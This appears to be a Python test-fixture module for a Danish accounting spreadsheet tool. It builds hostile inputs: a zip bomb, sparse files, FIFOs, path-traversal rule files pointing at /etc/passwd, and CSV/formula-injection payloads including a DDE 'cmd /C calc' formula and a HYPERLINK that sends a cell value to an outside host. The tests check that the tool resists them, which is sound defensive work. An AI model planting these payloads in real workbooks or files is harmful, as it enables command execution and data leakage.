"""Hostile and odd inputs the first corpus did not hold: each case builds its files in a fresh
folder at test time (sparse files, FIFOs, zip bombs and read-only files cannot be committed) and
says which command to run and what must come out.

A case returns a `Tilfaelde`: the command line (run in `mappe`), the exact stderr line expected
(or None when the command must succeed), and a check of the result where the outcome is more
than a message. forventet.py holds the corpus of committed files; this is the rest.
"""

from __future__ import annotations

import io
import os
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
from openpyxl import Workbook

HER = Path(__file__).resolve().parent
ROD = HER.parents[1]
DEMO = ROD / "addin" / "data" / "bif-regnskab-2024"
SKABELONER = ROD / "workbook_templates"
HOVED = ["styringsomraade", "bevilling", "navn", "korrigeret_udgift", "korrigeret_indtaegt",
         "regnskab_udgift", "regnskab_indtaegt"]
LOEN = ["Service", "Administration", "Løn", 1234, 0, 1000, -5]
HUSLEJE = ["Service", "Administration", "Husleje", 200, -50, 180, -40]


@dataclass
class Tilfaelde:
    args: list[str]
    fejl: str | None  # the one stderr line (after "Fejl: "), None when it must succeed
    tjek: Callable[[Path], None] | None = None  # a check of the folder after the run
    uaendret: list[str] = field(default_factory=list)  # files that must stay byte-identical
    grænse_fsize: int | None = None  # RLIMIT_FSIZE for the run (a full disk)


def _csv(mappe: Path, *raekker: list, navn: str = "hovedprodukter.csv", header=HOVED) -> Path:
    d = mappe / "d"
    d.mkdir(exist_ok=True)
    linjer = [",".join(str(x) for x in header)] + [",".join(str(x) for x in r) for r in raekker]
    (d / navn).write_text("\n".join(linjer) + "\n", encoding="utf-8")
    return d


def _bog(mappe: Path, navn: str, ark: dict[str, list[list]], *, skjult: dict[str, str] | None = None,
         flet: list[tuple[str, str]] = ()) -> Path:
    skjult = skjult or {}
    wb = Workbook()
    wb.remove(wb.active)
    for arknavn, raekker in ark.items():
        ws = wb.create_sheet(arknavn)
        for r in raekker:
            ws.append(r)
        if arknavn in skjult:
            ws.sheet_state = skjult[arknavn]
        for arkx, omraade in flet:
            if arkx == arknavn:
                ws.merge_cells(omraade)
    sti = mappe / navn
    wb.save(sti)
    return sti


def _loen(forventet: list) -> Callable[[Path], None]:
    """The report's Løn row (vedtaget/korrigeret ... afvigelse, t.kr.) must be `forventet`."""
    def tjek(mappe: Path) -> None:
        ws = openpyxl.load_workbook(mappe / "ud" / "r.xlsx")["Service"]
        raekker = [list(r[1:6]) for r in ws.iter_rows(values_only=True) if r[0] == "Løn"]
        assert raekker[0] == forventet, raekker
    return tjek


def _fifo(sti: Path) -> Path:
    os.mkfifo(sti)
    return sti


def _sparse(sti: Path, stoerrelse: int = 2 * 1024**3) -> Path:
    with open(sti, "wb") as f:
        f.truncate(stoerrelse)
    return sti


BUILD = ["build", "d", "--out", "ud/r.xlsx"]


# ---------------------------------------------------------------- CSV folders

def styretegn(tegn: str, kode: str) -> Callable[[Path], Tilfaelde]:
    def lav(m: Path) -> Tilfaelde:
        _csv(m, ["Service", "Administration", f"Løn{tegn}", 1234, 0, 1000, -5])
        return Tilfaelde(BUILD, f"fil d/hovedprodukter.csv, række 2, kolonne 'navn': Teksten "
                                f"indeholder et styretegn (U+{kode}), som ikke kan stå i en celle; "
                                "fjern det.")
    return lav


def navn_40000(m: Path) -> Tilfaelde:
    _csv(m, ["Service", "Administration", "L" * 40_000, 1234, 0, 1000, -5])
    return Tilfaelde(BUILD, "fil d/hovedprodukter.csv, række 2, kolonne 'navn': Teksten er på "
                            "40.000 tegn; en celle kan højst rumme 32.767 tegn.")


def navn_store_smaa(m: Path) -> Tilfaelde:
    _csv(m, LOEN, ["Service", "Administration", "løn", 1, 0, 1, 0])
    return Tilfaelde(BUILD, "fil d/hovedprodukter.csv, række 3, kolonne 'navn': 'Løn' (række 2) og "
                            "'løn' (række 3) er skrevet forskelligt med store og små bogstaver; "
                            "skriv navnet ens, så det er én linje.")


def navn_haardt_mellemrum(m: Path) -> Tilfaelde:
    # 'Løn' and 'Løn\u00a0' (a no-break space from a web page) are one line: 1234+1 ... summed
    _csv(m, LOEN, ["Service", "Administration", "Løn\u00a0", 1000, 0, 500, 0])
    return Tilfaelde(BUILD, None, _loen([2234, 0, 1500, -5, 739]))


def navn_dobbelt_mellemrum(m: Path) -> Tilfaelde:
    _csv(m, ["Service", "Administration", " Løn ", 1234, 0, 1000, -5])
    return Tilfaelde(BUILD, None, _loen([1234, 0, 1000, -5, 239]))


def blandet_talformat(m: Path) -> Tilfaelde:
    d = m / "d"
    d.mkdir()
    (d / "hovedprodukter.csv").write_text(
        ",".join(HOVED) + '\nService,Administration,Løn,1.234,0,1000,-5\n'
        'Service,Administration,Husleje,"1.234,5",0,1000,-5\n', encoding="utf-8")
    return Tilfaelde(BUILD, "fil d/hovedprodukter.csv, række 3, kolonne 'korrigeret_udgift': "
                            "Kolonnen blander talformater: '1.234' (række 2) læses med punktum som "
                            "decimaltegn, '1.234,5' med komma; gem filen med ét talformat (dansk: "
                            "semikolon som skilletegn).")


DYB_RAEKKE = 7_654_321  # a bad row deep inside a year's posting export


def _posteringer(m: Path, daarlig: str, *, sep: str = ",", kodning: str = "utf-8",
                 beloeb: tuple[str, str] = ("12.5", "-3")) -> Path:
    """d/hovedprodukter.csv with 8 million postings (short lines, written in blocks) whose row
    DYB_RAEKKE holds `daarlig` in regnskab_udgift; two blank rows early on count as rows."""
    d = m / "d"
    d.mkdir()
    a, b = beloeb
    linjer = [sep.join(["S", "B", f"Løn {i % 7}", a, b, "0", b]) for i in range(1_000)]
    blok = ("\n".join(linjer) + "\n").encode(kodning)
    with open(d / "hovedprodukter.csv", "wb") as f:
        f.write((sep.join(HOVED) + "\n\n" + sep * 6 + "\n").encode(kodning))  # rows 1-3
        foer = DYB_RAEKKE - 4  # data rows 4 .. DYB_RAEKKE - 1
        for _ in range(foer // 1_000):
            f.write(blok)
        f.write(("\n".join(linjer[:foer % 1_000]) + "\n").encode(kodning))
        f.write((sep.join(["S", "B", "Løn 1", a, b, daarlig, b]) + "\n").encode(kodning))
        for _ in range(340):
            f.write(blok)
    return d


def _dyb_besked(daarlig: str) -> str:
    from addin.fejl import InputFejl

    return InputFejl(f"'{daarlig}' er ikke et tal.", fil="d/hovedprodukter.csv",
                     raekke=DYB_RAEKKE, kolonne="regnskab_udgift").tekst()


def posteringer_dybt_tekst(m: Path) -> Tilfaelde:
    _posteringer(m, "12.5x")
    return Tilfaelde(BUILD, _dyb_besked("12.5x"))


def posteringer_dybt_dansk_cp1252(m: Path) -> Tilfaelde:
    _posteringer(m, "1.234,5x", sep=";", kodning="cp1252", beloeb=("1.234,5", "-3,25"))
    return Tilfaelde(BUILD, _dyb_besked("1.234,5x"))


def beloeb_1e14_tkr(m: Path) -> Tilfaelde:
    _csv(m, ["Service", "Administration", "Løn", 10**14, 0, 1000, -5])
    return Tilfaelde(BUILD, "fil d/hovedprodukter.csv, række 2, kolonne 'korrigeret_udgift': "
                            "Beløbet 100.000.000.000.000 er urimeligt stort.")


def to_raekker_9e13(m: Path) -> Tilfaelde:
    _csv(m, ["Service", "Administration", "Løn", 9 * 10**13, 0, 1000, -5],
         ["Service", "Administration", "Løn", 9 * 10**13, 0, 1000, -5])
    return Tilfaelde(BUILD, "fil d/hovedprodukter.csv, række 2, kolonne 'korrigeret_udgift': "
                            "Beløbet 90.000.000.000.000 er urimeligt stort.")


def sum_over_graensen(m: Path) -> Tilfaelde:
    # 12 rows of 900 mia. t.kr. = 9e14 kr. each (each allowed), together 1,08e16 kr.
    _csv(m, *[["Service", "Administration", "Løn", 9 * 10**11, 0, 1000, -5]] * 12)
    return Tilfaelde(BUILD, "fil d/hovedprodukter.csv, kolonne 'korrigeret_udgift': Beløbene i "
                            "kolonnen er tilsammen urimeligt store (over 10.000.000.000.000.000 "
                            "kr.); tjek enheden og om tal er sat ind to gange.")


def enhed_kr_i_indstillinger(m: Path) -> Tilfaelde:
    d = _csv(m, ["Service", "Administration", "Løn", 1_234_000, 0, 1_000_400, -5_000])
    (d / "indstillinger.csv").write_text("noegle,vaerdi\nenhed,kr\n", encoding="utf-8")
    return Tilfaelde(BUILD, None, _loen([1234, 0, 1000, -5, 239]))


def _regelfil_uden_for(sti: str) -> str:
    """The message for a rule file in Indstillinger outside the workbook's folder."""
    return (f"fil {sti}: En regelfil i Indstillinger skal ligge i projektmappens mappe (uden "
            "'..' og uden fuld sti) eller være navnet på en medfølgende regelfil (balance, "
            "budgetgaranti, budgetmodel, budgetnotat, budgetopfoelgning, pl_indeks, regnskab, "
            "udloeb).")


def regelfil_udenfor_mappen(m: Path) -> Tilfaelde:
    d = _csv(m, LOEN)
    shutil.copy(ROD / "rules" / "regnskab.yaml", m / "regler.yaml")
    (d / "indstillinger.csv").write_text("noegle,vaerdi\nregelfil,../regler.yaml\n",
                                         encoding="utf-8")
    return Tilfaelde(BUILD, _regelfil_uden_for("../regler.yaml"))


def regelfil_absolut(m: Path) -> Tilfaelde:
    d = _csv(m, LOEN)
    (d / "indstillinger.csv").write_text("noegle,vaerdi\nregelfil,/etc/passwd\n",
                                         encoding="utf-8")
    return Tilfaelde(BUILD, _regelfil_uden_for("/etc/passwd"))


def csv_sparse(m: Path) -> Tilfaelde:
    (m / "d").mkdir()
    _sparse(m / "d" / "hovedprodukter.csv")
    return Tilfaelde(BUILD, "fil d/hovedprodukter.csv: Filen fylder næsten intet på disken i "
                            "forhold til sin størrelse (en tom, udvidet fil); det er ikke et "
                            "udtræk.")


def csv_fifo(m: Path) -> Tilfaelde:
    (m / "d").mkdir()
    _fifo(m / "d" / "hovedprodukter.csv")
    return Tilfaelde(BUILD, "fil d/hovedprodukter.csv: Filen er ikke en almindelig fil.")


def csv_er_en_mappe(m: Path) -> Tilfaelde:
    (m / "d" / "hovedprodukter.csv").mkdir(parents=True)
    return Tilfaelde(BUILD, "fil d/hovedprodukter.csv: Filen er ikke en almindelig fil.")


# ---------------------------------------------------------------- rule files

def _regler(lav_fil: Callable[[Path], Path], besked: str) -> Callable[[Path], Tilfaelde]:
    def lav(m: Path) -> Tilfaelde:
        _csv(m, LOEN)
        sti = lav_fil(m)
        return Tilfaelde(["check", "d", "--rules", str(sti.relative_to(m))],
                         f"fil {sti.relative_to(m)}: {besked}")
    return lav


def _dev_zero(m: Path) -> Path:
    (m / "nul.yaml").symlink_to("/dev/zero")
    return m / "nul.yaml"


def _mappe(m: Path) -> Path:
    (m / "regler.yaml").mkdir()
    return m / "regler.yaml"


# ---------------------------------------------------------------- workbooks

def noter_ark_kaempe(m: Path) -> Tilfaelde:
    sti = _bog(m, "b.xlsx", {"hovedprodukter": [HOVED, LOEN], "Noter": [["mine noter"]]})
    wb = openpyxl.load_workbook(sti)
    wb["Noter"]["XFD1"] = "x"
    wb["Noter"]["A1048576"] = "y"
    wb.save(sti)
    return Tilfaelde(["build", "b.xlsx", "--out", "ud/r.xlsx"], None,
                     _loen([1234, 0, 1000, -5, 239]))


def inputark_kaempe(m: Path) -> Tilfaelde:
    sti = _bog(m, "b.xlsx", {"hovedprodukter": [HOVED, LOEN]})
    wb = openpyxl.load_workbook(sti)
    wb["hovedprodukter"]["XFD1"] = "x"
    wb["hovedprodukter"]["A1048576"] = "y"
    wb.save(sti)
    return Tilfaelde(["build", "b.xlsx", "--out", "ud/r.xlsx"],
                     "fil b.xlsx, ark 'hovedprodukter': Arket er for stort til at blive læst "
                     "(1.048.576 rækker × 16.384 kolonner); slet de tomme rækker og kolonner under "
                     "og til højre for dataene (fx en celle langt ude).")


def zip_bombe(m: Path) -> Tilfaelde:
    """A small file whose notes sheet unpacks to 300 MB of white space."""
    sti = _bog(m, "b.xlsx", {"hovedprodukter": [HOVED, LOEN], "Noter": [["x"]]})
    kilde = zipfile.ZipFile(sti)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as ud:
        for info in kilde.infolist():
            data = kilde.read(info.filename)
            if info.filename == "xl/worksheets/sheet2.xml":
                with ud.open(info.filename, "w", force_zip64=True) as f:
                    f.write(data[:data.index(b"<sheetData>")])
                    blok = b" " * (1 << 20)
                    for _ in range(300):
                        f.write(blok)
                    f.write(data[data.index(b"<sheetData>"):])
            else:
                ud.writestr(info, data)
    sti.write_bytes(buf.getvalue())
    return Tilfaelde(["build", "b.xlsx", "--out", "ud/r.xlsx"],
                     "fil b.xlsx: Projektmappen pakker sig ud til urimeligt meget "
                     "(xl/worksheets/sheet2.xml: 314 MB); den læses ikke.")


def meget_skjult_navnebror(m: Path) -> Tilfaelde:
    anden = ["Service", "Administration", "Løn", 9, 9, 9, 9]
    _bog(m, "b.xlsx", {"Hovedprodukter ": [HOVED, anden], "hovedprodukter": [HOVED, LOEN]},
         skjult={"Hovedprodukter ": "veryHidden"})
    return Tilfaelde(["build", "b.xlsx", "--out", "ud/r.xlsx"], None,
                     _loen([1234, 0, 1000, -5, 239]))


def to_synlige_navnebrødre(m: Path) -> Tilfaelde:
    _bog(m, "b.xlsx", {"hovedprodukter": [HOVED, LOEN], "Hovedprodukter ": [HOVED, LOEN]})
    return Tilfaelde(["build", "b.xlsx", "--out", "ud/r.xlsx"],
                     "fil b.xlsx: To ark har samme navn, når store/små bogstaver og mellemrum ses "
                     "bort fra: 'hovedprodukter' og 'Hovedprodukter '; omdøb eller slet det ene.")


def flettet_overskrift(m: Path) -> Tilfaelde:
    _bog(m, "b.xlsx", {"hovedprodukter": [["Regnskab 2024"], HOVED[:-1], LOEN[:-1]]},
         flet=[("hovedprodukter", "A1:F1")])
    return Tilfaelde(["build", "b.xlsx", "--out", "ud/r.xlsx"],
                     "fil b.xlsx, ark 'hovedprodukter', række 2, kolonne 'regnskab_indtaegt': Den "
                     "påkrævede kolonne 'regnskab_indtaegt' mangler (fundet: styringsomraade, "
                     "bevilling, navn, korrigeret_udgift, korrigeret_indtaegt, regnskab_udgift).")


def bog_enhed_kr(m: Path) -> Tilfaelde:
    _bog(m, "b.xlsx", {"hovedprodukter": [HOVED, ["Service", "Administration", "Løn", 1_234_000,
                                                  0, 1_000_400, -5_000]],
                       "Indstillinger": [["noegle", "vaerdi"], ["enhed", "kr"]]})
    return Tilfaelde(["build", "b.xlsx", "--out", "ud/r.xlsx"], None,
                     _loen([1234, 0, 1000, -5, 239]))


def bog_regelfil_fifo(m: Path) -> Tilfaelde:
    _fifo(m / "regler.yaml")
    _bog(m, "b.xlsx", {"hovedprodukter": [HOVED, LOEN],
                       "Indstillinger": [["noegle", "vaerdi"], ["regelfil", "regler.yaml"]]})
    return Tilfaelde(["build", "b.xlsx", "--out", "ud/r.xlsx"],
                     "fil regler.yaml: Regelfilen er ikke en almindelig fil.")


# ---------------------------------------------------------------- output paths

def _demo_build(ud: str, **kw) -> Callable[[Path], Tilfaelde]:
    def lav(m: Path) -> Tilfaelde:
        forberedt = kw.get("forbered")
        if forberedt:
            forberedt(m)
        return Tilfaelde(["build", str(DEMO), "--out", ud], kw.get("fejl"), kw.get("tjek"),
                         kw.get("uaendret", []), kw.get("fsize"))
    return lav


def _gammel(m: Path) -> None:
    (m / "ud").mkdir()
    (m / "ud" / "r.xlsx").write_bytes(b"forrige rapport")


def _skrivebeskyttet_mappe(m: Path) -> None:
    (m / "laast").mkdir()
    os.chmod(m / "laast", 0o555)


def _skrivebeskyttet_fil(m: Path) -> None:
    _gammel(m)
    os.chmod(m / "ud" / "r.xlsx", 0o444)


def _gammel_tmp(m: Path) -> None:
    (m / "ud").mkdir()
    (m / "ud" / ".r.dræbt.xlsx.tmp").write_bytes("halv fil fra en dræbt kørsel".encode())


def _ingen_tmp(m: Path) -> None:
    assert sorted(p.name for p in (m / "ud").iterdir()) == ["r.xlsx"]


def _fil_som_mappe(m: Path) -> None:
    (m / "fil.txt").write_text("x")


# ---------------------------------------------------------------- refresh and share

def _fyldt(m: Path, fil: str, endelse: str = ".xlsx", *, navn: str | None = None,
           styringsomraade: str | None = None) -> Path:
    """The regnskab template filled with the BIF example; `navn` renames the hovedprodukt
    Jobcenterdrift, `styringsomraade` renames the styringsområde Service in every input sheet."""
    import sys

    sys.path.insert(0, str(ROD / "tests"))
    from fyldning import fyld_fra_eksempel

    sti = fyld_fra_eksempel(SKABELONER / f"regnskab{endelse}", DEMO, m / f"{fil}{endelse}")
    if navn or styringsomraade:
        wb = openpyxl.load_workbook(sti, keep_vba=endelse == ".xlsm")
        for ark in ("hovedprodukter", "bevillinger", "aktivitet", "Forklaringer"):
            for raekke in wb[ark].iter_rows(min_row=4):
                celler = []
                if styringsomraade and raekke[0].value == "Service":
                    celler.append((raekke[0], styringsomraade))
                if navn and ark == "hovedprodukter" and raekke[4].value == "Jobcenterdrift":
                    celler.append((raekke[4], navn))
                for celle, v in celler:
                    celle.value = v
                    celle.data_type = "s"  # pasted text, as a finance system exports it
        wb.save(sti)
    return sti


def _ingen_formler_fra_data(navn: str) -> Callable[[Path], None]:
    def tjek(m: Path) -> None:
        wb = openpyxl.load_workbook(m / navn)
        for ws in wb.worksheets:
            for r in ws.iter_rows():
                for c in r:
                    assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    return tjek


def injektion(navn: str) -> Callable[[Path], Tilfaelde]:
    def lav(m: Path) -> Tilfaelde:
        _fyldt(m, "r", navn=navn)
        return Tilfaelde(["refresh", "r.xlsx"], None, _ingen_formler_fra_data("r.xlsx"))
    return lav


def _inputark_uroerte(fil: str, foer: dict) -> Callable[[Path], None]:
    def tjek(m: Path) -> None:
        wb = openpyxl.load_workbook(m / fil)
        for ark, vaerdier in foer.items():
            assert [list(r) for r in wb[ark].iter_rows(values_only=True)] == vaerdier, ark
    return tjek


def styringsomraade_hedder(arknavn: str) -> Callable[[Path], Tilfaelde]:
    """A styringsområde named like an input sheet: Refresh twice, input sheets untouched, no
    sheet added by the second Refresh."""
    def lav(m: Path) -> Tilfaelde:
        sti = _fyldt(m, "r", styringsomraade=arknavn)
        wb = openpyxl.load_workbook(sti)
        foer = {a: [list(r) for r in wb[a].iter_rows(values_only=True)]
                for a in ("Vejledning", "hovedprodukter", "bevillinger", "aktivitet",
                          "Indstillinger")}
        import subprocess
        import sys

        # the first Refresh; the corpus runs the second and checks the sheet count stayed
        subprocess.run([sys.executable, "-m", "addin", "refresh", str(sti)], check=True,
                       capture_output=True, cwd=m, env=dict(os.environ, PYTHONPATH=str(ROD)))
        antal = len(openpyxl.load_workbook(sti).sheetnames)

        def tjek(mappe: Path) -> None:
            _inputark_uroerte("r.xlsx", foer)(mappe)
            navne = openpyxl.load_workbook(mappe / "r.xlsx").sheetnames
            assert len(navne) == antal, navne
        return Tilfaelde(["refresh", "r.xlsx"], None, tjek)
    return lav


def tom_skabelon(skabelon: str, ark: str) -> Callable[[Path], Tilfaelde]:
    def lav(m: Path) -> Tilfaelde:
        shutil.copy(SKABELONER / f"{skabelon}.xlsx", m / "s.xlsx")
        return Tilfaelde(["refresh", "s.xlsx"],
                         f"fil s.xlsx, ark '{ark}': Arket har ingen data: indsæt dem under "
                         "overskrifterne (i skabelonen fra række 4) og tryk Refresh igen.",
                         uaendret=["s.xlsx"])
    return lav


def _fil(navn: str, data: bytes | None) -> Callable[[Path], None]:
    def lav(m: Path) -> None:
        if data is not None:
            (m / navn).write_bytes(data)
    return lav


def _kommando(args: list[str], fejl: str | None, forbered: Callable[[Path], None] | None = None,
              uaendret: list[str] = (), tjek=None) -> Callable[[Path], Tilfaelde]:
    def lav(m: Path) -> Tilfaelde:
        if forbered:
            forbered(m)
        return Tilfaelde(args, fejl, tjek, list(uaendret))
    return lav


def _fyld(m: Path) -> None:
    _fyldt(m, "r")


def _fyld_laast(m: Path) -> None:
    _fyldt(m, "r")
    os.chmod(m / "r.xlsx", 0o444)


def _fyld_link(m: Path) -> None:
    (m / "rigtig").mkdir()
    _fyldt(m / "rigtig", "r")
    (m / "link.xlsx").symlink_to(m / "rigtig" / "r.xlsx")


def _link_opdateret(m: Path) -> None:
    assert (m / "link.xlsx").is_symlink()
    assert "Oversigt" in openpyxl.load_workbook(m / "rigtig" / "r.xlsx").sheetnames
    kontrol = openpyxl.load_workbook(m / "rigtig" / "r.xlsx")["Kontrol"]
    assert kontrol["A1"].value == "Kontroller"


ODS = b"PK\x03\x04" + b"\x00" * 100
TILFAELDE: dict[str, Callable[[Path], Tilfaelde]] = {
    "csv/styretegn_soh": styretegn("\x01", "0001"),
    "csv/styretegn_lodret_tab": styretegn("\x0b", "000B"),
    "csv/styretegn_escape": styretegn("\x1b", "001B"),
    "csv/navn_40000_tegn": navn_40000,
    "csv/navn_store_og_smaa": navn_store_smaa,
    "csv/navn_haardt_mellemrum": navn_haardt_mellemrum,
    "csv/navn_mellemrum_omkring": navn_dobbelt_mellemrum,
    "csv/blandet_talformat": blandet_talformat,
    "csv/beloeb_1e14_tkr": beloeb_1e14_tkr,
    "csv/posteringer_7654321_tekst_i_beloeb": posteringer_dybt_tekst,
    "csv/posteringer_7654321_dansk_cp1252": posteringer_dybt_dansk_cp1252,
    "csv/to_raekker_9e13": to_raekker_9e13,
    "csv/sum_over_graensen": sum_over_graensen,
    "csv/enhed_kr_i_indstillinger": enhed_kr_i_indstillinger,
    "csv/regelfil_udenfor_mappen": regelfil_udenfor_mappen,
    "csv/regelfil_absolut": regelfil_absolut,
    "csv/sparse_2gb": csv_sparse,
    "csv/fifo": csv_fifo,
    "csv/fil_er_en_mappe": csv_er_en_mappe,
    "regler/dev_zero": _regler(_dev_zero, "Regelfilen er ikke en almindelig fil."),
    "regler/fifo": _regler(lambda m: _fifo(m / "r.yaml"),
                           "Regelfilen er ikke en almindelig fil."),
    "regler/sparse_2gb": _regler(lambda m: _sparse(m / "r.yaml"),
                                 "Regelfilen er for stor (over 1 MB)."),
    "regler/mappe": _regler(_mappe, "Regelfilen er ikke en almindelig fil."),
    "wb/noter_med_celle_langt_ude": noter_ark_kaempe,
    "wb/inputark_med_celle_langt_ude": inputark_kaempe,
    "wb/zip_bombe": zip_bombe,
    "wb/meget_skjult_navnebror": meget_skjult_navnebror,
    "wb/to_synlige_navnebrødre": to_synlige_navnebrødre,
    "wb/flettet_titel_over_overskrift": flettet_overskrift,
    "wb/enhed_kr_i_indstillinger": bog_enhed_kr,
    "wb/regelfil_fifo": bog_regelfil_fifo,
    "ud/mappe": _demo_build("ud.xlsx", forbered=lambda m: (m / "ud.xlsx").mkdir(),
                            fejl="fil ud.xlsx: Der ligger en mappe med det navn; angiv et "
                                 "filnavn."),
    "ud/txt": _demo_build("r.txt", fejl="fil r.txt: Ugyldig filtype '.txt' for resultatet; brug "
                                        ".xlsx."),
    "ud/ingen_endelse": _demo_build("rapport", fejl="fil rapport: Ugyldig filtype '(ingen)' for "
                                                    "resultatet; brug .xlsx."),
    "ud/skrivebeskyttet_mappe": _demo_build("laast/r.xlsx", forbered=_skrivebeskyttet_mappe,
                                            fejl="fil laast/r.xlsx: Mappen er skrivebeskyttet."),
    "ud/skrivebeskyttet_fil": _demo_build("ud/r.xlsx", forbered=_skrivebeskyttet_fil,
                                          fejl="fil ud/r.xlsx: Filen er skrivebeskyttet; fjern "
                                               "skrivebeskyttelsen eller skriv til en anden fil "
                                               "med --out.", uaendret=["ud/r.xlsx"]),
    "ud/disken_fuld": _demo_build("ud/r.xlsx", forbered=_gammel, fsize=4096,
                                  fejl="fil ud/r.xlsx: Filen kunne ikke skrives: filen bliver "
                                       "større, end systemet tillader. En eventuel tidligere fil "
                                       "er uændret.", uaendret=["ud/r.xlsx"]),
    "ud/dræbt_kørsel_efterlod_tmp": _demo_build("ud/r.xlsx", forbered=_gammel_tmp,
                                                tjek=_ingen_tmp),
    "ud/fil_som_mappe": _demo_build("fil.txt/r.xlsx", forbered=_fil_som_mappe,
                                    fejl="fil fil.txt/r.xlsx: 'fil.txt' er en fil, ikke en "
                                         "mappe."),
    "ud/docx_som_xlsx": lambda m: Tilfaelde(["export-docx", str(DEMO), "--out", "b.xlsx"],
                                            "fil b.xlsx: Ugyldig filtype '.xlsx' for resultatet; "
                                            "brug .docx."),
    "refresh/injektion_hyperlink": injektion('=HYPERLINK("http://x.invalid/?"&A1,"klik")'),
    "refresh/injektion_dde": injektion("=cmd|' /C calc'!A0"),
    "refresh/injektion_plus": injektion("+SUM(1,2)"),
    "refresh/injektion_minus": injektion("-2+3"),
    "refresh/injektion_snabel": injektion("@SUM(1,2)"),
    "refresh/injektion_tab": injektion("\t=1+1"),
    "refresh/so_hedder_hovedprodukter": styringsomraade_hedder("hovedprodukter"),
    "refresh/so_hedder_indstillinger": styringsomraade_hedder("Indstillinger"),
    "refresh/so_hedder_vejledning": styringsomraade_hedder("Vejledning"),
    "refresh/so_hedder_forklaringer": styringsomraade_hedder("Forklaringer"),
    "refresh/so_hedder_bevillinger": styringsomraade_hedder("Bevillinger"),
    "refresh/so_hedder_kontrol": styringsomraade_hedder("kontrol"),
    "refresh/so_med_ugyldige_tegn": styringsomraade_hedder("Service/Drift: [2024]*?"),
    "refresh/so_langt_navn": styringsomraade_hedder("Beskæftigelses- og integrationsindsats "
                                                    "for udsatte borgere"),
    "refresh/tom_regnskab": tom_skabelon("regnskab", "hovedprodukter"),
    "refresh/tom_budgetopfoelgning": tom_skabelon("budgetopfoelgning", "hovedprodukter"),
    "refresh/tom_balanceafstemning": tom_skabelon("balanceafstemning", "handleplaner"),
    "refresh/tom_budgetnotat": tom_skabelon("budgetnotat", "bevillingsteknik"),
    "refresh/tom_bevillingsudloeb": tom_skabelon("bevillingsudloeb", "udloeb"),
    "refresh/tom_budgetmodel": tom_skabelon("budgetmodel", "budgetmodel"),
    "refresh/ods": _kommando(["refresh", "r.ods"], "fil r.ods: Filtypen .ods kan ikke opdateres "
                             "eller deles; åbn filen i Excel (eller LibreOffice) og gem den som "
                             ".xlsx eller .xlsm.", _fil("r.ods", ODS), ["r.ods"]),
    "refresh/xls": _kommando(["refresh", "r.xls"], "fil r.xls: Filtypen .xls kan ikke opdateres "
                             "eller deles; åbn filen i Excel (eller LibreOffice) og gem den som "
                             ".xlsx eller .xlsm.",
                             _fil("r.xls", (HER / "fixtures" / "hovedprodukter.xls").read_bytes()),
                             ["r.xls"]),
    "refresh/xlsx_til_xlsm": _kommando(["refresh", "r.xlsx", "--out", "ny.xlsm"],
                                       "fil ny.xlsm: En .xlsm-fil skal have makroer, og "
                                       "projektmappen har ingen; skriv til en .xlsx-fil.", _fyld,
                                       ["r.xlsx"]),
    "refresh/out_txt": _kommando(["refresh", "r.xlsx", "--out", "r.txt"],
                                 "fil r.txt: Ugyldig filtype '.txt' for resultatet; brug .xlsx "
                                 "eller .xlsm.", _fyld, ["r.xlsx"]),
    "refresh/skrivebeskyttet": _kommando(["refresh", "r.xlsx"], "fil r.xlsx: Filen er "
                                         "skrivebeskyttet; fjern skrivebeskyttelsen eller skriv til "
                                         "en anden fil med --out.", _fyld_laast, ["r.xlsx"]),
    "refresh/symlink": _kommando(["refresh", "link.xlsx"], None, _fyld_link,
                                 tjek=_link_opdateret),
    "refresh/mangler": _kommando(["refresh", "findes_ikke.xlsx"],
                                 "fil findes_ikke.xlsx: Projektmappen findes ikke."),
    "refresh/tom_fil": _kommando(["refresh", "tom.xlsx"], "fil tom.xlsx: Filen er tom.",
                                 _fil("tom.xlsx", b"")),
    "share/mangler": _kommando(["share", "findes_ikke.xlsx", "--out", "k.xlsx"],
                               "fil findes_ikke.xlsx: Projektmappen findes ikke."),
    "share/tom_fil": _kommando(["share", "tom.xlsx", "--out", "k.xlsx"],
                               "fil tom.xlsx: Filen er tom.", _fil("tom.xlsx", b"")),
    "share/ikke_zip": _kommando(["share", "x.xlsx", "--out", "k.xlsx"],
                                "fil x.xlsx: Filen er ikke en gyldig projektmappe (beskadiget, "
                                "krypteret eller en anden filtype); åbn den i Excel og gem den "
                                "igen som .xlsx.", _fil("x.xlsx", b"ikke en projektmappe")),
    "share/ods": _kommando(["share", "r.ods", "--out", "k.xlsx"],
                           "fil r.ods: Filtypen .ods kan ikke opdateres eller deles; åbn filen i "
                           "Excel (eller LibreOffice) og gem den som .xlsx eller .xlsm.",
                           _fil("r.ods", ODS)),
    "share/out_xlsm": _kommando(["share", "r.xlsx", "--out", "k.xlsm"],
                                "fil k.xlsm: Ugyldig filtype '.xlsm' for resultatet; brug .xlsx.",
                                _fyld, ["r.xlsx"]),
}

